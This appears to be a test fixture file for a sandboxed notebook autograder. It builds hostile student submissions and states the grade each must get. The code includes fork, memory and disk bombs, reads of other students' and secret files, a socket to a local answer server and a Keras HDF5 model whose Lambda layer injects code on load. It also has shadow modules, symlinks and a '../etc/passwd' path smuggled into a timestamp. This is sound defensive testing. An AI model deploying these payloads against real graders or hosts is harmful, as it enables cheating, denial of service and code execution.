"""Hostile and broken submissions, each with the exact outcome the batch grader must give.

Every case is one student's submission folder, written by its builder from the released
notebook (with the solution's answers unless the attack needs otherwise). Each attack is
designed so that succeeding would change the score: e.g. a quiz with every answer wrong
plus a redefined check scores 20 if the trick works, 0 if it does not. ``score`` is what
grading_report.csv must say, ``status`` "graded" or "failed" (something could not be graded),
``reason`` a piece of the report's reason ("" when nothing is asserted about it), and
``evidence`` a piece of the graded notebook's outputs showing why the attack failed.

Builders get a :class:`Context`: the course folder, a secret file outside it and a TCP
server on 127.0.0.1 (both hand out the right quiz answers to whoever can reach them).
"""
import base64
import codecs
import copy
import json
import marshal
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from course import grade_id, solution_answers, student_notebook
from submissions import MAX_SCORE, WRONG

TIMESTAMP = "2026-03-02 10:00:00.000000 UTC"  # what nbgrader's collect writes
FORGED_TIMESTAMP = "2020-01-01 00:00:00.000000 UTC"
QUIZ, METRICS, PIPELINE = "05_quiz", "01_metrics", "02_pipeline_trace"


@dataclass(frozen=True)
class Context:
    course: Path
    secret_file: Path          # outside the course: {question id: its reader's right answer}
    server: tuple[str, int]    # 127.0.0.1 and a port: sends the same JSON to anyone who connects


@dataclass(frozen=True)
class Case:
    student: str
    assignment: str
    build: Callable[[Context, Path], None]  # writes the submission folder it is given
    score: float
    status: str = "graded"
    reason: str | tuple = ""  # a piece of the report's reason, or a tuple of pieces
    why: str = ""
    evidence: str = ""  # in the graded notebook's outputs: the attack failed for this reason


# ------------------------------------------------------------------ notebook helpers

def _released(ctx, assignment, overrides=None):
    """The released notebook with the solution's answers, then ``overrides``."""
    return student_notebook(ctx.course, assignment, solution_answers(assignment), overrides)


def _cell(nb, cell_id):
    return next(c for c in nb.cells if grade_id(c) == cell_id)


def _test_cells(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")
            and not c.metadata["nbgrader"].get("solution")]


def _save(folder, assignment, nb, timestamp=TIMESTAMP):
    nbformat.write(nb, str(folder / f"{assignment}.ipynb"))
    if timestamp is not None:
        (folder / "timestamp.txt").write_text(timestamp)


def _saved(assignment, make):
    """A builder that saves the notebook ``make(ctx)`` returns."""
    def build(ctx, folder):
        _save(folder, assignment, make(ctx))
    return build


def _wrong(assignment, student):
    """The answer overrides of one of tests/grading/submissions.py's wrong submissions."""
    return dict(next(o for s, o, _, _ in WRONG[assignment] if s == student))


# ------------------------------------------------------------------ 05_quiz answers

RIGHT = solution_answers(QUIZ)["answers"]  # computes the submitter's answers from their questions
UNANSWERED = 'ANSWERS = {f"q{i:02d}": None for i in range(1, 21)}\n'
# Every answer wrong: no question's answer is -1e6, and no question has an option "Z".
ALL_WRONG = ('ANSWERS = {qid: -1e6 if graded.kind(qid) == "number" else "Z"\n'
             "           for qid in graded.IDS}\n")


def _quiz(answers_cell):
    """A quiz whose answer cell is ``answers_cell`` (a string, or a function of the context)."""
    def make(ctx):
        source = answers_cell(ctx) if callable(answers_cell) else answers_cell
        return _released(ctx, QUIZ, {"answers": source})
    return _saved(QUIZ, make)


def _quiz_nb(change):
    """A quiz with the right answers, then ``change(nb)`` applied to the notebook."""
    def make(ctx):
        nb = _released(ctx, QUIZ)
        change(nb)
        return nb
    return _saved(QUIZ, make)


def _raw(content):
    """A builder that writes ``content(ctx)`` (bytes) as the quiz notebook."""
    def build(ctx, folder):
        (folder / f"{QUIZ}.ipynb").write_bytes(content(ctx))
        (folder / "timestamp.txt").write_text(TIMESTAMP)
    return build


def _quiz_bytes(ctx):
    return nbformat.writes(_released(ctx, QUIZ)).encode()


# ------------------------------------------------------------------ kernel-side attacks

# Stops every clock the kernel can see first: the cell time limit must be kept outside it.
# (It puts them back when interrupted, so that what follows tests the limit, not a kernel
# broken by its own clocks.)
INFINITE_LOOP = RIGHT + """
import time
clocks = {name: getattr(time, name) for name in dir(time)
          if name in ("time", "monotonic", "perf_counter", "process_time")
          or name.endswith("_ns")}
try:
    for name, clock in clocks.items():
        setattr(time, name, lambda: 0)
    while True:
        pass
finally:
    for name, clock in clocks.items():
        setattr(time, name, clock)
"""

ENDLESS_PRINTING = RIGHT + '\nwhile True:\n    print("spam " * 200)\n'

MEMORY_BOMB = RIGHT + """
hog = []
try:
    while True:  # 256 MB a time until the memory limit says no
        hog.append(bytes(2**28))
except MemoryError:
    print(f"MEMORY BOMB stopped at {len(hog) * 256} MB")
    hog.clear()  # so the kernel can still answer the tests
"""

FORK_BOMB = RIGHT + """
import os, time
kernel, forks = os.getpid(), 0
while True:
    try:
        os.fork()  # parent and every child keep forking
        forks += 1
    except OSError:  # the process limit
        if os.getpid() == kernel:
            break
        time.sleep(3600)
        os._exit(0)
print(f"FORK BOMB stopped after {forks} forks of the kernel")
"""

# Fills every folder it can write (its own folder, /tmp, /dev/shm) until refused, reports how
# far it got, then cleans up so the grading of its own tests is not what is tested.
DISK_FILLER = RIGHT + """
import errno, os
chunk = b"x" * 2**24
written, stops, files = 0, set(), []
for folder in (".", "/tmp", "/dev/shm"):
    for n in range(200):  # at most 200 files of up to 64 chunks (16 MB each) per folder
        path = os.path.join(folder, f"fill{n}.bin")
        files.append(path)
        try:
            with open(path, "wb") as handle:
                for _ in range(64):
                    handle.write(chunk)
                    handle.flush()
                    written += len(chunk)
        except OSError as error:
            stops.add(errno.errorcode[error.errno])
            if error.errno == errno.ENOSPC:
                break
for path in files:
    try:
        os.remove(path)
    except OSError:
        pass
print(f"DISK FILLER wrote {written} bytes, stopped by {sorted(stops)}")
"""


def _copies_other_student(ctx):
    other = ctx.course / "submitted" / "solution" / QUIZ / f"{QUIZ}.ipynb"
    return UNANSWERED + f"""
import json
try:  # copy the answer cell of another student's submission and run it
    other = json.load(open({str(other)!r}))
    exec(next("".join(c["source"]) for c in other["cells"]
              if c["metadata"].get("nbgrader", {{}}).get("grade_id") == "answers"))
except OSError as error:
    print("could not copy:", error)
"""


def _reads_secret(ctx):
    return UNANSWERED + f"""
import json
try:
    ANSWERS = json.load(open({str(ctx.secret_file)!r}))
except OSError as error:
    print("could not read:", error)
"""


def _opens_socket(ctx):
    host, port = ctx.server
    return UNANSWERED + f"""
import json, socket
try:
    with socket.create_connection(({host!r}, {port}), timeout=5) as connection:
        ANSWERS = json.loads(connection.makefile().readline())
except OSError as error:
    print("no network:", error)
"""


# The grader-only package and the grader's cached references are not in the kernel's view.
REACHES_FOR_THE_GRADER = UNANSWERED + """
try:
    import course_grader.quiz
    print("GRADER IMPORTED")
except ImportError as error:
    print("no grader package:", error)
from course_lib import grading, provided
print("grader available:", grading.GRADER_AVAILABLE, hasattr(grading, "quiz_correct"))
print("grader cache visible:", (provided.cache_root() / "grader").exists())
"""

REDEFINED_CHECKS = UNANSWERED + """
grading.quiz_answered = grading.quiz_correct = lambda label, ns: print(f"PASS {label}")
"""

PATCHED_QUIZ_KEY = ALL_WRONG + """
from course_lib import quiz
quiz.is_correct = lambda question_id, answer: True  # every answer is "right"
"""

INPUT_TRANSFORMER = UNANSWERED + """
def skip_tests(lines):  # every later cell that calls the grader becomes `pass`
    return ["pass\\n"] if any("grading." in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(skip_tests)
"""

# Prints the source of every later cell: in plain nbgrader the hidden tests run in this
# kernel, so they would end up in the cell outputs, and so in the returned feedback.
LEAKS_HIDDEN_TESTS = RIGHT + """
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
"""

# Writes modules named like the grader's next to the notebook, then imports nothing: any
# process that looks in the notebook's folder later would get the fake checks.
SHADOW_MODULES = UNANSWERED + """
fake = "def __getattr__(name):\\n    return lambda *args, **kwargs: None\\n"
for name in ("course_lib.py", "grading.py", "numpy.py", "sitecustomize.py"):
    open(name, "w").write(fake)
import os
os.makedirs("course_lib", exist_ok=True)
open("course_lib/__init__.py", "w").write(fake)
open("course_lib/grading.py", "w").write(fake)
"""

SYS_EXIT = RIGHT + "\nimport sys\nsys.exit('bye')  # IPython catches SystemExit\n"

OS_EXIT = RIGHT + "\nimport os\nos._exit(1)  # the kernel process ends here\n"


def _forges_timestamp(ctx):
    targets = [Path("timestamp.txt"), Path("..") / "timestamp.txt",
               ctx.course / "submitted" / "forger" / QUIZ / "timestamp.txt",
               ctx.course / "autograded" / "forger" / QUIZ / "timestamp.txt"]
    return RIGHT + f"""
for path in {[str(t) for t in targets]!r}:
    try:
        open(path, "w").write({FORGED_TIMESTAMP!r})
    except OSError as error:
        print("could not forge", path, error)
"""


def _keras_h5_with_code():
    """A legacy Keras HDF5 model (h5py only, no TensorFlow) whose Lambda layer, when
    tf.keras rebuilds the model, replaces the quiz checks of the process loading it."""
    import h5py
    import io

    payload = lambda x: (  # noqa: E731
        __import__("course_lib.grading", fromlist=["grading"]).__dict__.update(
            quiz_answered=lambda *a, **k: None, quiz_correct=lambda *a, **k: None), x)[1]
    function = codecs.encode(marshal.dumps(payload.__code__), "base64").decode("ascii")
    config = {"class_name": "Sequential", "config": {"name": "model", "layers": [
        {"class_name": "InputLayer",
         "config": {"batch_input_shape": [None, 1], "dtype": "float32", "name": "x"}},
        {"class_name": "Lambda",
         "config": {"name": "code", "function": [function, None, None], "function_type": "lambda",
                    "module": "builtins", "output_shape": None, "output_shape_type": "raw",
                    "output_shape_module": None, "arguments": {}}}]}}
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.21.0"
        f.attrs["backend"] = "tensorflow"
    return buffer.getvalue()


def _keras_injection(ctx):
    blob = base64.b64encode(_keras_h5_with_code()).decode("ascii")
    # ANSWERS looks like a Keras model (save + layers), so the kernel's side of the judge's
    # channel saves it "as a model" with the student's own save(): the h5 bytes above.
    return f"""
import base64
from pathlib import Path


class FakeModel:
    layers = []

    def save(self, path):
        Path(path).write_bytes(base64.b64decode({blob!r}))


ANSWERS = FakeModel()
"""


# ------------------------------------------------------------------ metadata tampering

def _edit_metadata(nb):
    cell = _cell(nb, "q07")  # a test cell made a raw cell: never run
    cell.cell_type = "raw"
    del cell["outputs"], cell["execution_count"]
    _cell(nb, "q01").metadata.nbgrader["points"] = 1000
    nb.metadata.kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}


def _duplicate_test_cell(nb):
    _cell(nb, "answers").source = RIGHT + (
        '\nANSWERS["q01"] = -1e6  # wrong\n')
    original = _cell(nb, "q01")
    for points in (5, 10):  # copies worth more, whose tests always pass
        duplicate = copy.deepcopy(original)
        duplicate.id = f"dup{points}"
        duplicate.metadata.nbgrader["points"] = points
        duplicate.source = 'print("PASS q01")'
        nb.cells.append(duplicate)


def _delete_test_cells(nb):
    nb.cells = [c for c in nb.cells if c not in _test_cells(nb)]


def _edit_tests(nb):
    _cell(nb, "answers").source = ALL_WRONG
    for cell in _test_cells(nb):
        cell.source = 'print("PASS")'
        cell.metadata.nbgrader["locked"] = False
        cell.metadata.pop("editable", None)
        cell.metadata.pop("deletable", None)


def _rename_grade_ids(nb):
    _cell(nb, "answers").source = UNANSWERED
    for cell in _test_cells(nb):
        cell.metadata.nbgrader["grade_id"] += "_mine"
        cell.source = 'print("PASS")'


def _flag_tests_as_answers(nb):
    # An autograded answer cell is run in the kernel: the fake checks would judge it.
    _cell(nb, "answers").source = REDEFINED_CHECKS
    for cell in _test_cells(nb):
        cell.metadata.nbgrader["solution"] = True


def _prefill_outputs(nb):
    _cell(nb, "answers").source = UNANSWERED
    for cell in _test_cells(nb):
        cell.execution_count = 1
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="PASS\n")]


# ------------------------------------------------------------------ malformed files

def _truncated(ctx):
    text = _quiz_bytes(ctx)
    return text[: len(text) // 2]


def _invalid_utf8(ctx):
    return _quiz_bytes(ctx).replace(b'"ANSWERS = ', b'"ANSWERS = \xff\xfe ', 1)


def _nbformat_3(ctx):
    return nbformat.writes(nbformat.convert(copy.deepcopy(_released(ctx, QUIZ)), 3)).encode()


def _nbformat_2(ctx):
    return json.dumps({"nbformat": 2, "nbformat_minor": 0, "metadata": {},
                       "worksheets": [{"cells": []}]}).encode()


def _huge(ctx, folder):
    # 500 MB by its size; sparse, so the test costs no disk. The grader must not read it.
    path = folder / f"{QUIZ}.ipynb"
    path.write_bytes(_quiz_bytes(ctx))
    os.truncate(path, 500 * 2**20)
    (folder / "timestamp.txt").write_text(TIMESTAMP)


def _renamed(ctx, folder):
    nbformat.write(_released(ctx, QUIZ), str(folder / "my quiz.ipynb"))


def _extra_files(ctx, folder):
    # timestamp.txt's time zone, a ../ path, would make nbgrader's parser open that file.
    _save(folder, QUIZ, _released(ctx, QUIZ),
          timestamp="2026-03-02 10:00:00 ../../../../etc/passwd")
    nbformat.write(_released(ctx, QUIZ, {"answers": REDEFINED_CHECKS}),
                   str(folder / f"{QUIZ}-Copy1.ipynb"))
    (folder / "notes.txt").write_text("not graded")
    (folder / "data").mkdir()


def _fake_course_lib(ctx, folder):
    # Plain nbgrader runs the notebook in a copy of this folder, where `import course_lib`
    # would find this file first.
    _save(folder, QUIZ, _released(ctx, QUIZ, {"answers": UNANSWERED}))
    (folder / "course_lib.py").write_text(
        "quiz = None\n"
        "class grading:\n"
        "    quiz_answered = quiz_correct = staticmethod(lambda *args: None)\n")


def _symlinked_notebook(ctx, folder):
    # ../ to another student's honest notebook: read through the link, it would score 20.
    (folder / f"{QUIZ}.ipynb").symlink_to(Path("..") / ".." / "solution" / QUIZ / f"{QUIZ}.ipynb")
    (folder / "timestamp.txt").symlink_to("/etc/hostname")


# ------------------------------------------------------------------ 01_metrics

def _metrics(answer_overrides, extra=None):
    """01_metrics with ``answer_overrides`` ({grade_id: source}); ``extra`` ({grade_id:
    code}) is appended to those answer cells."""
    def make(ctx):
        nb = _released(ctx, METRICS, answer_overrides)
        for cell_id, code in (extra or {}).items():
            _cell(nb, cell_id).source += "\n" + code
        return nb
    return _saved(METRICS, make)


def _metrics_solution_with(line):
    """The solution's metrics() with ``line`` run first on a matrix with an empty row (only
    the hidden edge-case test uses one)."""
    source = solution_answers(METRICS)["q1_answer"]
    head = '    with actual classes as rows and predicted classes as columns."""\n'
    assert head in source
    return {"q1_answer": source.replace(head, head + "    if not np.all(np.sum(cm, axis=1)):\n"
                                        f"        {line}\n", 1)}


KILL_KERNEL = "__import__('os')._exit(1)"
# A loop the kernel's interrupt cannot stop: the cell time limit must still end it.
IGNORE_SIGINT = "__import__('signal').signal(__import__('signal').SIGINT, __import__('signal').SIG_IGN)"
IGNORES_INTERRUPT = IGNORE_SIGINT + "\nwhile True:\n    pass\n"
# Honest code that hangs: a catastrophically backtracking regular expression runs in C and
# never looks at signals, so the interrupt has no effect either.
BACKTRACKING = 'import re\nre.match(r"(a+)+$", "a" * 40 + "b")\n'
NOT_STOPPED = "did not stop within 30 s of its interrupt"


def _unanswered_metrics(overrides):
    """01_metrics as released (unanswered), with ``overrides`` ({grade_id: source})."""
    return _saved(METRICS, lambda ctx: student_notebook(ctx.course, METRICS, None, overrides))


# 02 q1, honest: the integer type and its range read from the interpreter's input detail,
# as LiteRT gives it (a numpy scalar type such as numpy.int8), instead of hard-coded int8.
DTYPE_FROM_DETAIL = {"q1_answer": solution_answers(PIPELINE)["q1_answer"].replace(
    "    return np.clip(q, -128, 127).astype(np.int8)[np.newaxis, ..., np.newaxis]",
    "    dtype = input_detail[\"dtype\"]\n"
    "    info = np.iinfo(dtype)\n"
    "    return np.clip(q, info.min, info.max).astype(dtype)[np.newaxis, ..., np.newaxis]")}
assert "np.iinfo(dtype)" in DTYPE_FROM_DETAIL["q1_answer"]
SWAPPED = _wrong(METRICS, "swapped_pr")  # 7 of 10: precision, recall, hidden q1 fail

PATCHED_HELPERS = """
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
grading._fail = lambda label, text: print(f"PASS {label}")
"""

ALWAYS_EQUAL = """
class Agrees:  # equal to whatever it is compared with
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


decisions = {name: Agrees() for name in candidates}
"""


SHADOW_NUMPY = '''\
"""Loads the real numpy, then makes every closeness test pass."""
import importlib.machinery, importlib.util, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.machinery.PathFinder.find_spec(
    "numpy", [p for p in sys.path if os.path.abspath(p or os.curdir) != _here])
_real = importlib.util.module_from_spec(_spec)
sys.modules["numpy"] = _real
_spec.loader.exec_module(_real)
_real.allclose = lambda *args, **kwargs: True
'''


def _patched_helpers(ctx, folder):
    _metrics(SWAPPED, {"q1_answer": PATCHED_HELPERS})(ctx, folder)
    (folder / "numpy.py").write_text(SHADOW_NUMPY)


# ------------------------------------------------------------------ the table

CASES = [
    # ---- endless, greedy or destructive code in the kernel (05_quiz, right answers first)
    Case("infinite_loop", QUIZ, _quiz(INFINITE_LOOP), 20,
         why="loops with every clock of the kernel stopped; interrupted at the cell time "
             "limit all the same; ANSWERS was set before it -> 20",
         evidence='CellTimeoutError'),
    Case("endless_printing", QUIZ, _quiz(ENDLESS_PRINTING), 20,
         why="output capped, cell interrupted at the time limit; answers right -> 20",
         evidence='[output stopped here'),
    Case("memory_bomb", QUIZ, _quiz(MEMORY_BOMB), 20,
         why="MemoryError at the 4 GiB data limit (not the machine's 24 GB), the kernel "
             "lives; answers right -> 20",
         evidence='MEMORY BOMB stopped at'),
    Case("fork_bomb", QUIZ, _quiz(FORK_BOMB), 20,
         why="forks stop at the process limit, the kernel goes on; answers right -> 20",
         evidence='FORK BOMB stopped after'),
    Case("disk_filler", QUIZ, _quiz(DISK_FILLER), 20,
         why="writes stop at the file-size limit and the full scratch tmpfs; answers right -> 20",
         evidence='DISK FILLER wrote'),
    Case("sys_exit", QUIZ, _quiz(SYS_EXIT), 20,
         why="IPython turns SystemExit into an error output; answers right -> 20",
         evidence='SystemExit: bye'),
    Case("os_exit", QUIZ, _quiz(OS_EXIT), 0, "failed", "the kernel died",
         why="the kernel is gone, so no answer can be fetched -> 0, and this notebook failed",
         evidence='the kernel died'),
    # ---- reaching outside the sandbox: the answers are only out there
    Case("copies_other_student", QUIZ, _quiz(_copies_other_student), 0,
         why="reads another student's notebook to copy answers; isolation -> the copy fails -> 0",
         evidence='could not copy: [Errno 2]'),
    Case("reads_secret_file", QUIZ, _quiz(_reads_secret), 0,
         why="the answer key is in a file outside the course; not visible -> unanswered -> 0",
         evidence='could not read: [Errno 2]'),
    Case("opens_socket", QUIZ, _quiz(_opens_socket), 0,
         why="a server on 127.0.0.1 hands out the key; no network -> unanswered -> 0",
         evidence='no network: '),
    Case("reaches_for_the_grader", QUIZ, _quiz(REACHES_FOR_THE_GRADER), 0,
         why="imports the grader-only package and looks for the grader's cached references "
             "from the kernel: neither is there -> unanswered -> 0",
         evidence="grader available: False False"),
    # ---- faking results from inside the kernel: every answer unanswered or wrong
    Case("redefined_checks", QUIZ, _quiz(REDEFINED_CHECKS), 0,
         why="checks redefined in the kernel; the judge uses its own -> unanswered -> 0",
         evidence='not answered'),
    Case("patched_quiz_key", QUIZ, _quiz(PATCHED_QUIZ_KEY), 0,
         why="the practice quiz's is_correct patched to say yes; the judge checks the graded "
             "quiz itself -> 20 wrong answers -> 0",
         evidence='is not the right answer'),
    Case("input_transformer", QUIZ, _quiz(INPUT_TRANSFORMER), 0,
         why="test cells rewritten to `pass` in the kernel; they never run there -> 0",
         evidence='not answered'),
    Case("shadow_modules", QUIZ, _quiz(SHADOW_MODULES), 0,
         why="fake course_lib/grading/numpy modules written to its folder; the judge "
             "ignores the folder (python -I) -> unanswered -> 0",
         evidence='not answered'),
    Case("keras_code_injection", QUIZ, _quiz(_keras_injection), 0,
         why="ANSWERS saves as a Keras HDF5 file whose Lambda layer would patch the judge's "
             "checks when loaded (-> 19); the judge loads only safe .keras zips -> 0",
         evidence='is not a .keras (zip) model file'),
    Case("leaks_hidden_tests", QUIZ, _quiz(LEAKS_HIDDEN_TESTS), 20,
         why="prints every later cell's source; hidden tests never reach the kernel, so the "
             "feedback is clean and returned; answers right -> 20",
         evidence='is right.'),
    Case("forger", QUIZ, _quiz(_forges_timestamp), 20,
         why="writes an earlier timestamp.txt from the kernel; the submitted one is recorded "
             "(checked in the gradebook); answers right -> 20",
         evidence='could not forge ../timestamp.txt'),
    # ---- tampering with the notebook's grading metadata
    Case("deleted_tests", QUIZ, _quiz_nb(_delete_test_cells), 20,
         why="all 20 test cells deleted; restored from the gradebook and run -> 20",
         evidence='is right.'),
    Case("duplicated_test", QUIZ, _quiz_nb(_duplicate_test_cell), 0, "failed",
         "nbgrader could not read its grading metadata",
         why="q01 wrong, plus copies of its test worth 5 and 10 points that always pass (34 "
             "if counted); nbgrader itself stops on the copies it strips (as plain autograde "
             "does) -> failed, 0, for the instructor to look at"),
    Case("edited_metadata", QUIZ, _quiz_nb(_edit_metadata), 20,
         why="q07's test made a raw cell (never run: 19), q01 worth 1000 points (of 1019), "
             "kernelspec python3 (not the course kernel); all restored from the gradebook "
             "-> 20 of 20",
         evidence="PASS q07"),
    Case("edited_tests", QUIZ, _quiz_nb(_edit_tests), 0,
         why="every answer wrong, every test cell unlocked and made `print(\"PASS\")` (20 if "
             "kept); locked cells are restored from the gradebook -> 0",
         evidence='is not the right answer'),
    Case("renamed_grade_ids", QUIZ, _quiz_nb(_rename_grade_ids), 0, "failed",
         "nbgrader could not read its grading metadata",
         why="unanswered; test cells renamed to ids the gradebook does not know, their source "
             "`print` (20 if run as tests); nbgrader refuses the cells -> failed, 0"),
    Case("tests_flagged_as_answers", QUIZ, _quiz_nb(_flag_tests_as_answers), 0, "failed",
         "nbgrader could not read its grading metadata",
         why="test cells marked as answers would run in the kernel with fake checks (20); "
             "nbgrader's checksum refuses the notebook -> failed, 0"),
    Case("prefilled_outputs", QUIZ, _quiz_nb(_prefill_outputs), 0,
         why="unanswered, test cells carry PASS outputs; outputs cleared, tests run -> 0",
         evidence='not answered'),
    # ---- files that are not what they should be
    Case("truncated_json", QUIZ, _raw(_truncated), 0, "failed", "is not valid JSON",
         why="half a notebook cannot be read -> 0"),
    Case("invalid_utf8", QUIZ, _raw(_invalid_utf8), 0, "failed", "is not valid UTF-8",
         why="bytes FF FE in a cell -> unreadable -> 0"),
    Case("nbformat_3", QUIZ, _raw(_nbformat_3), 20, "graded", "was nbformat 3; upgraded",
         why="an old but valid format is upgraded, as nbformat does; answers right -> 20",
         evidence='is right.'),
    Case("nbformat_2", QUIZ, _raw(_nbformat_2), 0, "failed", "is nbformat 2",
         why="too old to convert -> 0"),
    Case("huge_notebook", QUIZ, _huge, 0, "failed", "over the 20 MB limit",
         why="500 MB is refused unread -> 0"),
    Case("renamed_notebook", QUIZ, _renamed, 0, "failed", "missing: expected 05_quiz.ipynb",
         why="notebooks are graded by name: 'my quiz.ipynb' is not graded -> 0"),
    Case("extra_files", QUIZ, _extra_files, 20, "graded",
         ("ignored extra notebook", "not a time zone name"),
         why="an extra notebook with fake checks, a file and a folder are ignored; a ../ "
             "path as timestamp.txt's time zone is refused (noted); answers right -> 20",
         evidence='is right.'),
    Case("fake_course_lib", QUIZ, _fake_course_lib, 0, "graded", "ignored course_lib.py",
         why="a course_lib.py with no-op checks next to the notebook (plain nbgrader "
             "imports it: 20); ignored -> unanswered -> 0",
         evidence='not answered'),
    Case("symlinked_notebook", QUIZ, _symlinked_notebook, 0, "failed", "is a symbolic link",
         why="a ../ link to another student's notebook is not followed -> 0"),
    # ---- student functions the checks call (01_metrics, 10 points)
    Case("metrics_hangs", METRICS, _metrics(_metrics_solution_with("while True: pass")), 9,
         why="metrics() never returns on the hidden test's matrix with an empty row: that call times out, "
             "the other tests pass -> 9",
         evidence='CellTimeoutError'),
    Case("metrics_kills_kernel", METRICS, _metrics(_metrics_solution_with(KILL_KERNEL)), 3,
         "failed", "the kernel died",
         why="the kernel dies in the hidden q1 test: the 3 visible q1 points were scored, "
             "everything after gets 0 -> 3, and this notebook failed",
         evidence='the kernel died'),
    Case("metrics_hangs_uninterruptibly", METRICS,
         _metrics(_metrics_solution_with(IGNORE_SIGINT + "\n        while True: pass")),
         3, "failed", NOT_STOPPED,
         why="metrics() ignores the interrupt and loops on the hidden test's matrix with an empty row: the "
             "kernel is stuck, so that test and every later cell earn nothing; the 3 visible "
             "q1 points were scored before -> 3, and this notebook failed",
         evidence=NOT_STOPPED),
    # ---- a test cell earns points only if its check ran to completion and passed
    Case("blank_ignores_interrupt", METRICS, _unanswered_metrics({"q1_answer": IGNORES_INTERRUPT}),
         0, "failed", NOT_STOPPED,
         why="unanswered; the first answer cell ignores SIGINT and loops: no later cell can run, "
             "so no test ran to completion (10 if tests without outputs counted) -> 0",
         evidence=NOT_STOPPED),
    Case("blank_backtracking_regex", METRICS, _unanswered_metrics({"q1_answer": BACKTRACKING}),
         0, "failed", NOT_STOPPED,
         why="unanswered; the first answer cell hangs in a regular expression that no interrupt "
             "stops (10 if tests without outputs counted) -> 0",
         evidence=NOT_STOPPED),
    # ---- values crossing between the judge and the kernel
    Case("dtype_from_detail", PIPELINE, _saved(PIPELINE, lambda ctx: _released(ctx, PIPELINE,
                                                                              DTYPE_FROM_DETAIL)),
         8, why="honest preprocess() that uses the interpreter's dtype (numpy.int8, a class): it "
                "must reach the student's function as that class, as in plain nbgrader -> 8"),
    Case("patched_helpers", METRICS, _patched_helpers, 7, "graded", "ignored numpy.py",
         why="precision/recall swapped (7); np.allclose, assert_allclose and grading._fail "
             "patched in the kernel, and a numpy.py faking np.allclose next to the notebook "
             "(10 if either reached the checks); the judge's are its own and the file is "
             "ignored -> 7",
         evidence="precision and recall are swapped"),
    Case("always_equal", METRICS,
         _metrics(_wrong(METRICS, "ignores_integer"), {"q3_answer": ALWAYS_EQUAL}), 7,
         why="integer_only ignored (7); `decisions` holds objects equal to anything (would "
             "pass q3_decisions: 8); they reach the judge as opaque data -> 7",
         evidence='Agrees from the notebook'),
]


# Wrong-in-one-way neighbours per assignment: their partial scores show a hostile case
# leaking into another submission. The quiz's cost ~2 s a notebook, so all of them; 01 and 02
# cost ~17 s, so one each (every wrong answer is graded on its own in tests/grading).
WRONG_NEIGHBOURS = {"01_metrics": 1, "02_pipeline_trace": 1}


def honest_submissions(assignment):
    """[(student, answer overrides or None for unanswered, expected score)]: the solution,
    an unanswered notebook, and wrong ones of tests/grading/submissions.py."""
    wrong = WRONG[assignment][:WRONG_NEIGHBOURS.get(assignment)]
    return ([("solution", {}, MAX_SCORE[assignment]), ("blank", None, 0)]
            + [(student, overrides, score) for student, overrides, score, _ in wrong])


# Submission folders that are not graded at all: no grading_report.csv row, a note in the output.
SKIPPED = {
    "linked_folder": "a symbolic link; only real folders are graded",
}


def build_skipped(ctx):
    """A student folder that is a link to another student's (honest) folder."""
    (ctx.course / "submitted" / "linked_folder").symlink_to(ctx.course / "submitted" / "solution")


# The cases plain `nbgrader autograde` is fooled by, cheap enough to show it (05_quiz).
FOOLS_PLAIN_NBGRADER = {
    "redefined_checks": 20,      # 0 in the batch
    "input_transformer": 20,     # 0 in the batch
    "leaks_hidden_tests": 20,    # same score, but the hidden tests are in its outputs
}
